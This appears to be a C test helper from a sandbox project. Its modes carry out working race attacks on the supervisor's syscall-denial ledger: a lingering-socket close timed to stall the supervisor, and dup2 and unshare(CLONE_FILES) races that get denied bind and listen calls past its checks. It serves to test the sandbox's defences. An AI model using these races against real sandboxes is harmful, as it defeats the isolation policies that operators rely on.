/* ledger-race MODE ...: attacks on the supervisor's denial ledger (issue 14,
 * items 9 and 10). Each mode prints key=value lines for the test to check.
 *
 *   linger-close SECS
 *       A loopback TCP client whose peer never reads (zero window), with
 *       SO_LINGER {1, SECS}: prints close-ms=N, the time its own close()
 *       took. Outside sbx this shows that the last close of such a socket
 *       blocks for the linger time.
 *   linger-attack SECS TRIES
 *       The same socket, held by a child only; the child makes a bind() on
 *       it (which a rule on bind sends to the supervisor) and is killed at
 *       a random moment around the supervisor's answer. When the
 *       supervisor duplicated the socket before the child's death, its
 *       duplicate is the last reference (an exiting task's close does not
 *       linger, so the child's does not block) and the supervisor's
 *       close() waits SECS. Once sock_diag shows the socket in that
 *       lingering close, prints armed=TRY and waits for a signal (sbx must
 *       still end at its timeout and on SIGTERM). Prints armed=no after
 *       TRIES tries.
 *   unshare-files
 *       fd 9 is an AF_UNIX socket in the process's table; a thread runs
 *       unshare(CLONE_FILES), puts an AF_INET socket at 9 in its own table
 *       and calls bind(9, 127.0.0.1:0) and listen(9): prints bind=R and
 *       listen=R (ok or the errno's name).
 *   dup2-race TRIES
 *       fd 9 flips between an AF_UNIX and an AF_INET socket (dup2 from a
 *       second thread) while the main thread calls listen(9), TRIES times.
 *       A listen() that returns 0 acted on the AF_INET socket although
 *       the supervisor saw AF_UNIX: prints inet-sockets=N (AF_INET and
 *       AF_INET6 sockets created, out of 2 tries each round) and wins=N
 *       (inet listens that succeeded).
 *   dup2-bind TRIES
 *       The same with bind(9, 127.0.0.1:0): the address is AF_INET
 *       whichever socket the supervisor saw at 9.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/inet_diag.h>
#include <linux/netlink.h>
#include <linux/sock_diag.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "helper-util.h"

static void fail(const char *what)
{
    fprintf(stderr, "ledger-race: %s: %s\n", what, strerror(errno));
    exit(2);
}

static uint64_t now_us(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (uint64_t)ts.tv_sec * 1000000 + (uint64_t)ts.tv_nsec / 1000;
}

static struct sockaddr_in loopback_any(void)
{
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = 0 };
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    return a;
}

/* A connected loopback client whose send queue holds data the peer's
 * zero window keeps unsent, with SO_LINGER {1, secs}. *peer and *listener
 * stay open (never read). */
static int lingering_client(int secs, int *peer, int *listener)
{
    int small = 4096;
    int l = socket(AF_INET, SOCK_STREAM, 0);
    if (l < 0)
        fail("socket (listener)");
    /* The accepted socket inherits the listener's receive buffer. */
    setsockopt(l, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
    struct sockaddr_in a = loopback_any();
    socklen_t alen = sizeof a;
    if (bind(l, (struct sockaddr *)&a, sizeof a) < 0 || listen(l, 1) < 0 ||
        getsockname(l, (struct sockaddr *)&a, &alen) < 0)
        fail("bind/listen (listener)");
    int c = socket(AF_INET, SOCK_STREAM, 0);
    if (c < 0)
        fail("socket (client)");
    setsockopt(c, SOL_SOCKET, SO_SNDBUF, &small, sizeof small);
    if (connect(c, (struct sockaddr *)&a, sizeof a) < 0)
        fail("connect");
    int p = accept(l, NULL, NULL);
    if (p < 0)
        fail("accept");
    /* Fill the peer's receive window and then our send queue. */
    int fl = fcntl(c, F_GETFL);
    fcntl(c, F_SETFL, fl | O_NONBLOCK);
    char chunk[4096];
    memset(chunk, 'x', sizeof chunk);
    for (int idle = 0; idle < 2;) {
        if (send(c, chunk, sizeof chunk, MSG_NOSIGNAL) < 0) {
            if (errno != EAGAIN)
                fail("send");
            idle++;
            usleep(200);
        }
    }
    fcntl(c, F_SETFL, fl);
    struct linger lg = { .l_onoff = 1, .l_linger = secs };
    if (setsockopt(c, SOL_SOCKET, SO_LINGER, &lg, sizeof lg) < 0)
        fail("setsockopt(SO_LINGER)");
    *peer = p;
    *listener = l;
    return c;
}

static int linger_close(int secs)
{
    int peer, listener;
    int c = lingering_client(secs, &peer, &listener);
    uint64_t t0 = now_us();
    close(c);
    printf("close-ms=%llu\n", (unsigned long long)((now_us() - t0) / 1000));
    return 0;
}

/* ---- linger-attack ---- */

/* The child: a copy of our fd table (no CLONE_FILES), our memory
 * (CLONE_VM: no copy to make, so a try costs little). It only makes the
 * trapped call and waits to be killed. */
static int bind_and_wait(void *arg)
{
    int c = *(int *)arg;
    struct sockaddr_in a = loopback_any();
    syscall(SYS_bind, c, (struct sockaddr *)&a, sizeof a);
    for (;;)
        syscall(SYS_pause);
    return 0;
}

/* Someone is inside a lingering close() of the client socket `me` ->
 * `peer`: sock_diag shows it in FIN_WAIT1 still attached to its inode.
 * tcp_close() orphans the socket (inode 0) only after the linger wait,
 * and at once when the closer is an exiting task. (An exact sock_diag
 * lookup is a hash lookup; /proc/net/tcp walks the whole host table.) */
static bool lingering_close_seen(const struct sockaddr_in *me, const struct sockaddr_in *peer)
{
    int nl = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_SOCK_DIAG);
    if (nl < 0)
        fail("socket(NETLINK_SOCK_DIAG)");
    struct {
        struct nlmsghdr nlh;
        struct inet_diag_req_v2 r;
    } req = {
        .nlh = { .nlmsg_len = sizeof req, .nlmsg_type = SOCK_DIAG_BY_FAMILY,
                 .nlmsg_flags = NLM_F_REQUEST },
        .r = { .sdiag_family = AF_INET, .sdiag_protocol = IPPROTO_TCP,
               .idiag_states = ~0u,
               .id = { .idiag_sport = me->sin_port, .idiag_dport = peer->sin_port,
                       .idiag_src = { me->sin_addr.s_addr },
                       .idiag_dst = { peer->sin_addr.s_addr },
                       .idiag_cookie = { INET_DIAG_NOCOOKIE, INET_DIAG_NOCOOKIE } } },
    };
    bool seen = false;
    /* The supervisor's close follows the child's death within
     * microseconds, and lingers for seconds: a few looks are plenty. */
    for (int look = 0; look < 3 && !seen; look++) {
        if (look)
            usleep(300);
        struct sockaddr_nl kernel = { .nl_family = AF_NETLINK };
        if (sendto(nl, &req, sizeof req, 0, (struct sockaddr *)&kernel, sizeof kernel) < 0)
            fail("sock_diag request");
        union {
            char buf[8192];
            struct nlmsghdr align;
        } answer;
        ssize_t n = recv(nl, answer.buf, sizeof answer.buf, 0);
        struct nlmsghdr *h = &answer.align;
        if (n >= (ssize_t)NLMSG_LENGTH(sizeof(struct inet_diag_msg)) &&
            h->nlmsg_type == SOCK_DIAG_BY_FAMILY) {
            const struct inet_diag_msg *m = NLMSG_DATA(h);
            seen = m->idiag_state == 4 /* TCP_FIN_WAIT1 */ && m->idiag_inode != 0;
        }
    }
    close(nl);
    return seen;
}

static int compare_u64(const void *a, const void *b)
{
    uint64_t x = *(const uint64_t *)a, y = *(const uint64_t *)b;
    return x < y ? -1 : x > y;
}

/* The median time a trapped bind() takes to come back: the supervisor
 * duplicates the socket somewhere inside it. */
static uint64_t trapped_bind_us(void)
{
    uint64_t t[31];
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    if (s < 0)
        fail("socket (calibration)");
    for (int i = 0; i < 31; i++) {
        struct sockaddr_in a = loopback_any();
        uint64_t t0 = now_us();
        bind(s, (struct sockaddr *)&a, sizeof a);
        t[i] = now_us() - t0;
    }
    close(s);
    qsort(t, 31, sizeof t[0], compare_u64);
    return t[15] ? t[15] : 1;
}

static int linger_attack(int secs, int tries)
{
    uint64_t round_trip = 0;
    srand((unsigned)getpid());
    static char child_stack[64 * 1024] __attribute__((aligned(16)));
    for (int try = 1; try <= tries; try++) {
        /* The supervisor's latency drifts with the machine's load. */
        if (try % 64 == 1)
            round_trip = trapped_bind_us();
        int peer, listener;
        int c = lingering_client(secs, &peer, &listener);
        struct sockaddr_in me, them;
        socklen_t melen = sizeof me, themlen = sizeof them;
        if (getsockname(c, (struct sockaddr *)&me, &melen) < 0 ||
            getpeername(c, (struct sockaddr *)&them, &themlen) < 0)
            fail("getsockname/getpeername");
        pid_t child = clone(bind_and_wait, child_stack + sizeof child_stack,
                            CLONE_VM | SIGCHLD, &c);
        if (child < 0)
            fail("clone");
        close(c);  /* the child's table holds the only reference now */
        /* Kill it within twice a trapped bind's round trip: somewhere in
         * there the supervisor holds its duplicate (before its answer, or
         * after it when it closes the duplicate last) and the child's
         * reference goes away. */
        uint64_t until = now_us() + (uint64_t)rand() % (round_trip * 2 + 1);
        while (now_us() < until)
            ;
        kill(child, SIGKILL);
        waitpid(child, NULL, 0);
        if (lingering_close_seen(&me, &them)) {
            printf("armed=%d\n", try);
            fflush(stdout);
            for (;;)
                pause();
        }
        close(peer);
        close(listener);
    }
    printf("armed=no\n");
    return 1;
}

/* ---- unshare-files ---- */

static void *own_table_thread(void *arg)
{
    char *out = arg;
    if (unshare(CLONE_FILES) < 0)
        fail("unshare(CLONE_FILES)");
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0 || dup2(s, 9) < 0)
        fail("socket/dup2 in the thread");
    close(s);
    struct sockaddr_in a = loopback_any();
    int rc = bind(9, (struct sockaddr *)&a, sizeof a);
    int len = snprintf(out, 128, "bind=%s\n", errno_result(rc, errno));
    rc = listen(9, 1);
    snprintf(out + len, 128 - (size_t)len, "listen=%s\n", errno_result(rc, errno));
    return NULL;
}

static int unshare_files(void)
{
    int u = socket(AF_UNIX, SOCK_STREAM, 0);
    if (u < 0 || dup2(u, 9) < 0)
        fail("socket(AF_UNIX)/dup2");
    char out[128];
    pthread_t t;
    pthread_create(&t, NULL, own_table_thread, out);
    pthread_join(t, NULL);
    fputs(out, stdout);
    return 0;
}

/* ---- dup2-race ---- */

static atomic_int flip_unix = -1, flip_inet = -1;
static atomic_bool flipping = true;

/* Spins for up to 20 us: the fd stays put for about as long as the
 * supervisor takes from its check to the kernel's continuation. */
static void hold_a_moment(unsigned *seed)
{
    uint64_t until = now_us() + (uint64_t)(rand_r(seed) % 20);
    while (now_us() < until)
        ;
}

static void *flipper(void *arg)
{
    (void)arg;
    unsigned seed = (unsigned)getpid();
    while (atomic_load(&flipping)) {
        int i = atomic_load(&flip_inet), u = atomic_load(&flip_unix);
        dup2(u, 9);
        hold_a_moment(&seed);
        if (i >= 0)
            dup2(i, 9);
        hold_a_moment(&seed);
    }
    return NULL;
}

/* The inet socket i did what `call` does: it listens, or it is bound. */
static bool inet_call_done(int i, bool bind_call)
{
    if (bind_call) {
        struct sockaddr_in a;
        socklen_t len = sizeof a;
        return getsockname(i, (struct sockaddr *)&a, &len) == 0 && a.sin_port != 0;
    }
    int on = 0;
    socklen_t len = sizeof on;
    return getsockopt(i, SOL_SOCKET, SO_ACCEPTCONN, &on, &len) == 0 && on;
}

static int dup2_race(int tries, bool bind_call)
{
    int u = socket(AF_UNIX, SOCK_STREAM, 0);
    if (u < 0)
        fail("socket(AF_UNIX)");
    atomic_store(&flip_unix, u);
    dup2(u, 9);
    int inet_sockets = 0, wins = 0;
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    for (int try = 0; try < tries; try++) {
        int i = atomic_load(&flip_inet);
        if (i < 0) {
            /* socket() of an inet family: decided in BPF when a rule
             * names it, from a register the flipper cannot touch. */
            int s6 = socket(AF_INET6, SOCK_STREAM, 0);
            if (s6 >= 0) {
                inet_sockets++;
                close(s6);
            }
            i = socket(AF_INET, SOCK_STREAM, 0);
            if (i < 0)
                continue;
            inet_sockets++;
            atomic_store(&flip_inet, i);
        }
        if (bind_call) {
            struct sockaddr_in a = loopback_any();
            bind(9, (struct sockaddr *)&a, sizeof a);
        } else {
            listen(9, 1);
        }
        if (inet_call_done(i, bind_call)) {
            /* A call that a rule denies for this inet socket went
             * through. Take a fresh one for the next try. */
            wins++;
            atomic_store(&flip_inet, -1);
            usleep(100);  /* the flipper may still hold the old number */
            close(i);
        }
    }
    atomic_store(&flipping, false);
    pthread_join(t, NULL);
    printf("inet-sockets=%d\nwins=%d\n", inet_sockets, wins);
    return 0;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc == 3 && strcmp(argv[1], "linger-close") == 0)
        return linger_close(atoi(argv[2]));
    if (argc == 4 && strcmp(argv[1], "linger-attack") == 0)
        return linger_attack(atoi(argv[2]), atoi(argv[3]));
    if (argc == 2 && strcmp(argv[1], "unshare-files") == 0)
        return unshare_files();
    if (argc == 3 && strcmp(argv[1], "dup2-race") == 0)
        return dup2_race(atoi(argv[2]), false);
    if (argc == 3 && strcmp(argv[1], "dup2-bind") == 0)
        return dup2_race(atoi(argv[2]), true);
    fprintf(stderr, "usage: ledger-race linger-close SECS | linger-attack SECS TRIES | "
                    "unshare-files | dup2-race TRIES | dup2-bind TRIES\n");
    return 2;
}
